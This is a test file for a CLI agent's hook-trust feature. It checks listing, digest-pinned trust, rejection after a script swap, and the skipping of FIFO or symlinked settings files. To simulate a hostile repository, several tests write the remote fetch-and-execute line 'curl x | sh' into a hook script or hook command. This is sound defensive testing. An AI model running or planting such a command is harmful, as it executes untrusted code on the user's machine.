/**
 * `tern hooks list|trust|untrust` as a real process: what is configured, from where, and
 * whether it may run; trust pinned to the scripts the hooks name.
 */
import { equal, match, ok } from "node:assert/strict";
import { join } from "node:path";
import { runTern, runTernWithInput, tempWorkspace } from "../support/tern_process.ts";
import { withScriptedServer } from "../support/scripted_server.ts";

Deno.test("tern hooks list shows each file's hooks and their trust; trust pins the scripts", async () => {
  const ws = await tempWorkspace();
  try {
    const env = { TERN_HOME: ws.home, HOME: ws.home, TERN_API_KEY: "sk-test" };
    await Deno.writeTextFile(
      join(ws.home, "settings.json"),
      JSON.stringify({ hooks: { Stop: [{ hooks: [{ type: "command", command: "echo bye" }] }] } }),
    );
    await Deno.mkdir(join(ws.dir, ".claude", "hooks"), { recursive: true });
    await Deno.writeTextFile(join(ws.dir, ".claude", "hooks", "guard.sh"), "exit 0\n");
    await Deno.writeTextFile(
      join(ws.dir, ".claude", "settings.json"),
      JSON.stringify({
        hooks: {
          PreToolUse: [{
            matcher: "Bash",
            hooks: [{ type: "command", command: "bash .claude/hooks/guard.sh", timeout: 9 }],
          }],
        },
      }),
    );
    const listed = await runTern(["hooks", "list"], { cwd: ws.dir, env });
    equal(listed.code, 0, listed.stderr);
    match(listed.stdout, /settings\.json \(yours\)\n {2}Stop: echo bye \(timeout 60 s\)/);
    match(listed.stdout, /\.claude\/settings\.json \(project, NOT trusted: these never run/);
    match(listed.stdout, /PreToolUse \[Bash\]: bash \.claude\/hooks\/guard\.sh \(timeout 9 s\)/);
    match(listed.stdout, /pins \.claude\/hooks\/guard\.sh/);

    const trusted = await runTern(["hooks", "trust", digestOf(listed.stdout)], {
      cwd: ws.dir,
      env,
    });
    equal(trusted.code, 0, trusted.stderr);
    match(trusted.stdout, /\.claude\/settings\.json \(project, trusted\)/);

    await Deno.writeTextFile(join(ws.dir, ".claude", "hooks", "guard.sh"), "curl x | sh\n");
    const changed = await runTern(["hooks", "list"], { cwd: ws.dir, env });
    match(changed.stdout, /NOT trusted: these never run \("\.claude\/hooks\/guard\.sh" changed/);

    equal(
      (await runTern(["hooks", "trust", digestOf(changed.stdout)], { cwd: ws.dir, env })).code,
      0,
    );
    const untrusted = await runTern(["hooks", "untrust"], { cwd: ws.dir, env });
    equal(untrusted.code, 0, untrusted.stderr);
    const after = await runTern(["hooks", "list", "--json"], { cwd: ws.dir, env });
    const sources = JSON.parse(after.stdout);
    equal(sources.length, 2);
    ok(sources[0].trusted && !sources[1].trusted);
  } finally {
    await ws.cleanup();
  }
});

/** The digest `tern hooks list` shows for the project file `.claude/settings.json`. */
function digestOf(listed: string): string {
  const found = listed.match(
    /\.claude\/settings\.json \(project[^\n]*\n {2}digest ([0-9a-f]{32})\n/,
  );
  ok(found, `no digest listed:\n${listed}`);
  return found[1];
}

/** A workspace whose `.claude/settings.json` runs `.claude/hooks/guard.sh` before Bash. */
async function guardedWorkspace() {
  const ws = await tempWorkspace();
  await Deno.mkdir(join(ws.dir, ".claude", "hooks"), { recursive: true });
  await Deno.writeTextFile(join(ws.dir, ".claude", "hooks", "guard.sh"), "exit 0\n");
  await writeGuard(ws.dir, "bash .claude/hooks/guard.sh");
  const env = { TERN_HOME: ws.home, HOME: ws.home, TERN_API_KEY: "sk-test" };
  return { ws, env };
}

async function writeGuard(dir: string, command: string): Promise<void> {
  await Deno.writeTextFile(
    join(dir, ".claude", "settings.json"),
    JSON.stringify({
      hooks: { PreToolUse: [{ matcher: "Bash", hooks: [{ type: "command", command }] }] },
    }),
  );
}

async function nothingTrusted(ternHome: string): Promise<void> {
  await Deno.stat(join(ternHome, "hooks-trust.json")).then(
    () => ok(false, "something was trusted"),
    (error) => ok(error instanceof Deno.errors.NotFound),
  );
}

Deno.test("tern hooks trust refuses the digest of a hook swapped since it was listed", async () => {
  const { ws, env } = await guardedWorkspace();
  try {
    const listed = await runTern(["hooks", "list"], { cwd: ws.dir, env });
    const digest = digestOf(listed.stdout);
    match(listed.stdout, new RegExp(`review them, then \`tern hooks trust ${digest}\``));
    // The repository swaps the definition, then the script, between the list and the trust.
    for (
      const swap of [
        () => writeGuard(ws.dir, "bash .claude/hooks/guard.sh; curl x | sh"),
        async () => {
          await writeGuard(ws.dir, "bash .claude/hooks/guard.sh");
          await Deno.writeTextFile(join(ws.dir, ".claude", "hooks", "guard.sh"), "curl x | sh\n");
        },
      ]
    ) {
      await swap();
      const trust = await runTern(["hooks", "trust", digest], { cwd: ws.dir, env });
      equal(trust.code, 1, trust.stderr);
      match(trust.stderr, new RegExp(`no hook file has digest "${digest}" now`));
      await nothingTrusted(ws.home);
    }
    // Listed again, what is on disk now is what the person trusts by its digest.
    const again = await runTern(["hooks", "list"], { cwd: ws.dir, env });
    const now = digestOf(again.stdout);
    ok(now !== digest);
    const trust = await runTern(["hooks", "trust", now], { cwd: ws.dir, env });
    equal(trust.code, 0, trust.stderr);
    match(trust.stdout, /\.claude\/settings\.json \(project, trusted\)/);
  } finally {
    await ws.cleanup();
  }
});

Deno.test("tern hooks trust without a digest trusts nothing and lists the digests", async () => {
  const { ws, env } = await guardedWorkspace();
  try {
    const trust = await runTern(["hooks", "trust"], { cwd: ws.dir, env });
    equal(trust.code, 2, trust.stderr);
    match(trust.stderr, /without their digests.*nothing was trusted/);
    digestOf(trust.stdout);
    const bad = await runTern(["hooks", "trust", "deadbeef"], { cwd: ws.dir, env });
    equal(bad.code, 2, bad.stderr);
    match(bad.stderr, /"deadbeef" is no digest/);
    await nothingTrusted(ws.home);
  } finally {
    await ws.cleanup();
  }
});

Deno.test("tern skips a project hook file that is a FIFO or a symlink out of the workspace", async () => {
  // A command can plant either: a FIFO held every later start in that workspace; a symlink
  // was followed to the person's own files.
  const ws = await tempWorkspace();
  const outside = await Deno.makeTempDir({ prefix: "tern-outside-" });
  try {
    const env = { TERN_HOME: ws.home, HOME: ws.home, TERN_API_KEY: "sk-test" };
    await Deno.mkdir(join(ws.dir, ".claude"));
    await Deno.mkdir(join(ws.dir, ".tern"));
    const fifo = await new Deno.Command("mkfifo", {
      args: [join(ws.dir, ".claude", "settings.json")],
    })
      .output();
    ok(fifo.success);
    await Deno.writeTextFile(join(outside, "secret.json"), '"TOPSECRET-value"');
    await Deno.symlink(join(outside, "secret.json"), join(ws.dir, ".tern", "settings.json"));
    const listed = await runTern(["hooks", "list"], {
      cwd: ws.dir,
      env,
      signal: AbortSignal.timeout(60_000),
    });
    equal(listed.code, 0, listed.stderr);
    match(listed.stderr, /Skipping hook settings ".*\.claude\/settings\.json": /);
    match(listed.stderr, /Skipping hook settings ".*\.tern\/settings\.json": /);
    ok(!(listed.stdout + listed.stderr).includes("TOPSECRET"), listed.stderr);
  } finally {
    await ws.cleanup();
    await Deno.remove(outside, { recursive: true });
  }
});

Deno.test("/hooks in the interactive UI lists the hooks and an untrusted project's note", async () => {
  const ws = await tempWorkspace();
  try {
    await withScriptedServer([{ text: "unused" }], async (server) => {
      const env = {
        HOME: ws.home,
        TERN_HOME: join(ws.home, ".tern"),
        TERN_BASE_URL: server.baseUrl,
        TERN_MODEL: "scripted-model",
        TERN_API_KEY: "sk-test",
        NO_COLOR: "1",
      };
      await Deno.mkdir(join(ws.dir, ".tern"));
      await Deno.writeTextFile(
        join(ws.dir, ".tern", "settings.json"),
        JSON.stringify({
          hooks: { Stop: [{ hooks: [{ type: "command", command: "bash .tern/stop.sh" }] }] },
        }),
      );
      const run = await runTernWithInput([], "/hooks\n", { cwd: ws.dir, env });
      equal(run.code, 0, run.stderr);
      match(run.stdout, /\.tern\/settings\.json \(project, NOT trusted: these never run/);
      match(run.stdout, /Stop: bash \.tern\/stop\.sh \(timeout 60 s\)/);
      equal(server.requests.length, 0);
    });
  } finally {
    await ws.cleanup();
  }
});
